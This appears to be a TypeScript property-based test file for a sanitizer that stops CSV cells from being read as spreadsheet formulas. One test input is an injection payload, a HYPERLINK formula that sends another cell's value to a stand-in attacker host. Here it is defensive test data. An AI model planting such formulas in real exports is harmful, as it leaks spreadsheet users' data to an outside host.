import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { asGiven, harmless } from '../../src/domain/csv.ts'

const parts = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  ',',
  ';',
  '\t',
  '\n',
  '\r',
  '"',
  "'",
  ' ',
  '\u3000',
  'a',
  '1',
]
const nasty = fc.array(fc.constantFrom(...parts), { maxLength: 12 }).map((some) => some.join(''))

/** Cells as spreadsheets may make them of a line: they trim, and take off quotation marks that nobody closes. */
const cellsOf = (csv: string, delimiter: string): string[] =>
  csv
    .split(new RegExp(`[${delimiter}\r\n]`))
    .map((cell) => cell.replace(/^[\s"]+/, ''))
    .filter((cell) => cell !== '')
const runs = (cell: string): boolean => /^[=+\-@＝＋－＠]/.test(cell)

describe('texts in CSV', () => {
  it('begin no formula, whatever a spreadsheet takes for the delimiter', () => {
    expect(harmless('Eve;=HYPERLINK("http://evil.example/"&A2);x')).to.equal(
      `Eve;'=HYPERLINK("http://evil.example/"&A2);x`,
    )
    expect(harmless('Flat 3, "-2+3"')).to.equal(`Flat 3, "'-2+3"`)
    expect(harmless('one\n=2\r\n＠three')).to.equal("one\n'=2\r\n'＠three")
    for (const end of ['\v', '\f', '\u0085', '\u2028', '\u2029'])
      expect(harmless(`one${end}=2`), JSON.stringify(end)).to.equal(`one${end}'=2`)
    for (const harmfree of ['Q=A', "O'Neil", 'Müller-Lüdenscheidt', 'a, b; c', 'x@y.example'])
      expect(harmless(harmfree)).to.equal(harmfree)
    fc.assert(
      fc.property(
        fc.array(nasty, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(',', ';'),
        (texts, delimiter) => {
          const csv = stringify([texts.map(harmless)], {
            delimiter,
            record_delimiter: 'windows',
            quoted_match: /[\r\n]/,
          })
          const read = parse(csv, { delimiter, relax_column_count: true }) as string[][]
          for (const cell of read.flat()) expect(runs(cell.trimStart()), cell).to.equal(false)
          for (const other of [',', ';', '\t'])
            for (const cell of cellsOf(csv, other))
              expect(runs(cell), JSON.stringify([csv, cell])).to.equal(false)
        },
      ),
      { numRuns: 2000 },
    )
  })

  it('are what they were when they are read again', () => {
    fc.assert(
      fc.property(nasty, (text) => void expect(asGiven(harmless(text))).to.equal(text)),
      { numRuns: 2000 },
    )
  })

  it('take as long as they are', () => {
    const [begun, before] = [process.cpuUsage(), parts.map((part) => part.repeat(200_000))]
    for (const text of before) expect(asGiven(harmless(text)).length).to.equal(text.length)
    const { user } = process.cpuUsage(begun)
    expect(user / 1e6, 'seconds; with its square it would be minutes').to.be.lessThan(5)
  })
})
